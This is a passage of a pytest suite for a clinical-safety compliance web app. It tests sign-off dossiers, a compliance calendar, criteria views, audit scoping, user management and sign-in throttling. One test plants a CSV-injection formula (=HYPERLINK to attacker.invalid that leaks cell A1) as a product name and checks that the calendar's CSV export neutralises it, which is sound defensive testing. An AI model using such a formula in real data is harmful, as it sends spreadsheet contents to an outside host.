        app.wf.sign_off_section(assessor, p.assessment_id, view.revision, sec)
    app.wf.sign_off(
        assessor,
        p.assessment_id,
        view.revision,
        decision=view.result.decision,
        note="Checked in full",
        role="Clinical safety officer",
        organisation="Example ICB",
    )
    at = app.open("dossier.py", as_user="assessor", query={"assessment": str(p.assessment_id)})
    at.button_group[0].set_value(["pdf"]).run()
    at.button(key="ds_build").click().run()
    pdf = download_bytes(at.download_button(key="ds_dl_pdf"))
    pages = [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages]
    text = "\n".join(pages)
    assert "Checked in full" in text
    assert "DRAFT" not in text and all("Signed off by" in t for t in pages)
    assert "Clinical safety officer" in text and "Example ICB" in text
    assert text.count("I have reviewed this assessment") == 1  # once, not once per section


# ---------------------------------------------------------------------------------- calendar, criteria, audit


def test_calendar_lists_dated_events_and_decision_changes(app: App) -> None:
    at = app.open("calendar.py", as_user="assessor")
    assert texts(at.title) == "Compliance calendar"
    events = table(at, "Date", "Product", "What", "Detail")
    assert len(events) > 0
    assert list(events["Date"]) == sorted(events["Date"])
    metrics = {m.label: m.value for m in at.metric}
    assert int(metrics["Dated events"]) == len(events)
    assert at.get("vega_lite_chart")
    # Looking further ahead never shows fewer events.
    at.select_slider(key="cal_months").set_value(36).run()
    assert len(table(at, "Date", "Product", "What")) >= len(events)
    # Filters: product, organisation, kind.
    one = events["Product"].iloc[0]
    at.multiselect(key="cal_product").set_value([one]).run()
    assert set(table(at, "Date", "Product", "What")["Product"]) == {one}
    at.multiselect(key="cal_product").set_value([]).run()
    at.multiselect(key="cal_kind").set_value(["decision"]).run()
    assert set(table(at, "Date", "Product", "What")["What"]) == {"Decision changes"}
    at.multiselect(key="cal_kind").set_value([]).run()
    org = table(at, "Organisation")["Organisation"].iloc[0]
    at.multiselect(key="cal_org").set_value([org]).run()
    assert set(table(at, "Organisation")["Organisation"]) == {org}
    # The iCalendar export holds one event per expiry, deadline and decision change shown.
    import icalendar

    shown = table(at, "Date", "Product", "What")
    ics = icalendar.Calendar.from_ical(download_bytes(at.download_button(key="cal_ics")))
    got = list(ics.walk("VEVENT"))
    assert len(got) <= len(shown[shown["What"] != "Renewal window opens"])
    assert got and all(str(e["summary"]).split(": ")[0] in set(shown["Product"]) for e in got)
    # A vendor's calendar holds only its own product.
    vat = app.open("calendar.py", as_user=app.vendor_of(CLEAN))
    own = app.seeded.product(CLEAN)
    if vat.dataframe:
        assert set(table(vat, "Product")["Product"]) <= {f"{own.name} {own.version}"}
    else:
        assert "Nothing expires" in texts(vat.info)


def test_calendar_csv_download_neutralises_formulas(app: App) -> None:
    """Product names are vendor text: in the calendar's CSV they must not become spreadsheet formulas."""
    hostile = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")'
    text = (EXAMPLES / "slotharbour.yaml").read_text(encoding="utf-8")
    text = text.replace("name: SlotHarbour", "name: '" + hostile.replace("'", "''") + "'", 1)
    app.wf.submit(SYSTEM, text, "hostile.yaml")
    at = app.open("calendar.py", as_user="assessor")
    at.select_slider(key="cal_months").set_value(36).run()
    rows = list(csv.reader(io.StringIO(download_bytes(at.download_button(key="cal_csv")).decode("utf-8"))))
    products = [r[1] for r in rows[1:]]
    assert any(hostile in p for p in products), "the hostile product should be in the calendar"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


@pytest.mark.parametrize(
    "view, columns",
    [
        ("DTAC questions", ("Id", "Question", "Asked", "Meets the criterion")),
        ("What changed v1.0 → v2.0", ("Area", "v1.0", "v2.0", "Change")),
        ("NICE back-pain technologies", ("Technology", "Company", "Status")),
        ("NG59 content rules", ("Item", "Content", "Rule")),
        ("GB device rules", ("Marking", "Label", "Accepted in GB until")),
        ("Policy settings", ("Setting", "Value")),
    ],
)
def test_criteria_browser_views(app: App, view: str, columns: tuple[str, ...]) -> None:
    at = app.open("criteria_browser.py", as_user=app.vendor_of(CLEAN))
    assert set(table(at, "Set", "File", "SHA-256")["Set"]) >= {"dtac-v1.0", "dtac-v2.0"}
    at.button_group(key="cb_view").set_value(view).run()
    assert not at.exception
    assert len(table(at, *columns)) > 0


def test_criteria_browser_filters_questions_and_switches_version(app: App) -> None:
    at = app.open("criteria_browser.py", as_user="assessor")
    at.text_input(key="cb_filter").input("C1.2").run()
    ids = [i for d in at.dataframe if "Id" in d.value.columns for i in d.value["Id"]]
    assert ids and all(i.startswith("C1.2") for i in ids)
    asked = {
        r["Id"]: r["Asked"] for d in at.dataframe if "Id" in d.value.columns for _, r in d.value.iterrows()
    }
    assert "C1.2" in asked["C1.2.1"] and "No" in asked["C1.2.1"]
    at.selectbox(key="cb_set").set_value("dtac-v1.0").run()
    assert not at.exception
    assert "dtac-v1.0" in [d.value for d in at.selectbox if d.key == "cb_set"]


def test_audit_page_shows_entries_filters_and_scopes_vendors(app: App) -> None:
    at = app.open("audit.py", as_user="assessor")
    entries = table(at, "When (UTC)", "Who", "Action", "What")
    assert {"user.create", "submission.create", "assessment.create"} <= set(entries["Action"])
    at.text_input(key="au_action").input("submission.create").run()
    entries = table(at, "Action")
    assert set(entries["Action"]) == {"submission.create"}
    assert len(entries) == len(app.seeded.products)
    at.text_input(key="au_action").input("no.such.action").run()
    assert "No entries." in texts(at.info)
    # A vendor sees only its own organisation's entries: the same ones the service gives it.
    vendor = app.vendor_of(CLEAN)
    vat = app.open("audit.py", as_user=vendor)
    shown = table(vat, "When (UTC)", "Who", "Action", "What")
    own = app.wf.audit_trail(vendor, limit=100)
    assert {e.organisation_id for e in own} == {vendor.organisation_id}
    assert list(shown["Action"]) == [e.action for e in own]
    everyone = app.wf.audit_trail(SYSTEM, limit=2000)
    assert len(shown) < len(everyone)


# ---------------------------------------------------------------------------------- users


def test_users_page_lists_adds_and_disables_accounts(app: App) -> None:
    at = app.open("users.py", as_user="admin")
    assert texts(at.title) == "Users"
    users = table(at, "User", "Role", "Status")
    assert {"admin", "assessor"} <= set(users["User"])
    assert len(users) == 2 + len({p.vendor for p in app.seeded.products})
    form = [w for w in at.text_input if w.form_id == "us_add"]
    by_label = {w.label: w for w in form}
    by_label["User name"].input("newassessor")
    by_label["Full name"].input("New Assessor")
    by_label["Initial password (at least 10 characters)"].input("a-long-password-1")
    next(s for s in at.selectbox if s.label == "Role").set_value("assessor")
    at.button(key="FormSubmitter:us_add-Add user").click().run()
    assert not at.exception
    assert "Added newassessor." in [t.value for t in at.toast]
    assert "newassessor" in set(table(at, "User")["User"])
    assert app.wf.login("newassessor", "a-long-password-1").role == "assessor"
    # A refused addition says why.
    by_label = {w.label: w for w in at.text_input if w.form_id == "us_add"}
    by_label["User name"].input("newassessor")
    by_label["Initial password (at least 10 characters)"].input("a-long-password-1")
    at.button(key="FormSubmitter:us_add-Add user").click().run()
    assert "already exists" in texts(at.error)
    # Disable it.
    new_id = app.user("newassessor").id
    at.selectbox(key="us_disable").set_value(new_id).run()
    at.button(key="us_disable_btn").click().run()
    assert not at.exception
    assert app.user("newassessor").disabled
    users = table(at, "User", "Status")
    assert users.set_index("User").loc["newassessor", "Status"] == "disabled"


def test_a_disabled_account_is_signed_out_on_its_next_run(app: App) -> None:
    at = app.open(as_user="assessor")
    assert texts(at.title) == "Portfolio"
    app.wf.disable_user(app.user("admin"), "assessor")
    at.run()
    assert session.USER_KEY not in at.session_state
    assert "Your account has been disabled or removed" in texts(at.info)
    assert "Sign in" in texts(at.subheader)


def test_sign_in_after_five_failures_says_how_long_to_wait(app: App) -> None:
    at = app.open()
    for _ in range(4):
        sign_in(at, ASSESSOR[0], "not-the-password")
        assert texts(at.error) == "The user name or password is not right."
    sign_in(at, ASSESSOR[0], "not-the-password")
    assert "The user name or password is not right. Wait 15 seconds before you try again." in texts(at.error)
    sign_in(at, *ASSESSOR)
    assert "Too many sign-in attempts. Try again in" in texts(at.error)
    assert session.USER_KEY not in at.session_state
    (refused,) = app.wf.audit_trail(SYSTEM, action="login.refused")
    assert refused.actor == ASSESSOR[0] and refused.after == {"address": "unknown", "retry_at": ANY}


def test_portfolio_row_selection_opens_the_product(app: App) -> None:
    at = app.open(as_user="assessor")
    rows = table(at, "Product")
    i = list(rows["Product"]).index(FAILING)
    at.session_state["pf_table"] = {"selection": {"rows": [i], "columns": [], "cells": []}}
    at.run()
    assert not at.exception
    p = app.seeded.product(FAILING)
    assert texts(at.title) == "Assessment"
    assert f"{p.name} {p.version}" in texts(at.header)
    assert at.query_params["product"] == str(p.id)


# ---------------------------------------------------------------------------------- evidence viewer


def open_evidence(app: App, product: str, as_user: str | UserView = "assessor") -> tuple[AppTest, int]:
    p = app.seeded.product(product)
    at, _ = open_review(app, product, as_user)
    at.segmented_control(key=f"rv_tab_{p.assessment_id}").set_value("Evidence").run()
    assert not at.exception, [e.value for e in at.exception]
    return at, app.wf.get_assessment(SYSTEM, p.assessment_id).submission_id


def test_evidence_tab_lists_received_documents_and_shows_a_pdf_and_text(app: App) -> None:
    at, sid = open_evidence(app, OTHER)
    docs = app.wf.list_evidence(SYSTEM, sid)
    frame = table(at, "Ref", "State", "SHA-256", "Sent by")
    assert list(frame["State"]) == ["Received"] * len(docs)
    assert list(frame["SHA-256"]) == [d.sha256 for d in docs]
    pdf = next(d for d in docs if d.media_type == "application/pdf")
    at.selectbox(key=f"rv_ev_pick_{sid}").set_value(pdf.index).run()
    assert not at.exception

    def kinds(node: Any) -> list[str]:
        out = [getattr(node, "type", "")]
        for child in getattr(node, "children", {}).values():
            out += kinds(child)
        return out

    assert "image" in kinds(at.main), "the PDF's pages are rendered as images in the page"
    assert pdf.sha256 in texts(at.text)
    dl = at.download_button(key=f"rv_ev_{sid}_{pdf.index}_dl")
    assert download_bytes(dl).startswith(b"%PDF-")
    txt = next(d for d in docs if d.media_type == "text/plain")
    at.selectbox(key=f"rv_ev_pick_{sid}").set_value(txt.index).run()
    _, content = app.wf.evidence_file(SYSTEM, sid, txt.index)
    assert content.decode().strip() in [t.value.strip() for t in at.text]


def test_vendor_sees_its_own_evidence_without_the_check_form(app: App) -> None:
    vendor = app.vendor_of(OTHER)
    at, sid = open_evidence(app, OTHER, as_user=vendor)
    at.selectbox(key=f"rv_ev_pick_{sid}").set_value(0).run()
    assert not at.exception
    assert "Record the check" not in [b.label for b in at.button]
